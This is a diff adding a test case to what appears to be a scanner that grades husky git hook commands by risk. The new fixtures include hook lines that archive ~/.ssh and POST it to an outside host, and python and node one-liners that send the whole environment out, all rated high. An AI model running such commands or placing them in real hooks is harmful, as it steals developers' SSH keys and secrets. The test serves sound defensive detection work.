@@ -134,6 +134,14 @@ describe('git-hook-command', () => {
     expect(found('.husky/pre-push', null, 'curl -s -X POST -d "$(git log -1 --format=%s)" https://ci.acme-dev.net/notify\n')).toEqual(['git-hook-command:medium']);
     expect(found('.husky/pre-commit', null, 'test -f ~/.npmrc || echo "run npm login first"\n')).toEqual(['git-hook-command:low']);
   });
+  it('rates a hook that sends the ~/.ssh folder, or an inline program that sends the whole environment, high', () => {
+    expect(found('.husky/pre-push', null, 'tar czf - ~/.ssh 2>/dev/null | curl -s -X POST --data-binary @- https://sync.devtools-cache.dev/u\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, 'python3 -c "import os,json,urllib.request;urllib.request.urlopen(\'https://hooks.devtools-cache.dev/c\',data=json.dumps(dict(os.environ)).encode())"\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, "node -e \"fetch('https://t.devtools-cache.dev/c',{method:'POST',body:JSON.stringify(process.env)})\"\n")).toEqual(['git-hook-command:high']);
+    // The folder set up, an inline program that sends other data, or reads one variable: not that.
+    expect(found('.husky/pre-commit', null, 'mkdir -p ~/.ssh && chmod 700 ~/.ssh\n')).toEqual(['git-hook-command:low']);
+    expect(found('.husky/pre-push', null, 'python3 -c "import os,urllib.request;urllib.request.urlopen(\'https://ci.acme-dev.net/n\',data=os.environ[\'GIT_BRANCH\'].encode())"\n')).toEqual(['git-hook-command:medium']);
+  });
 
   it('reports new husky and lefthook commands, graded by what they run', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
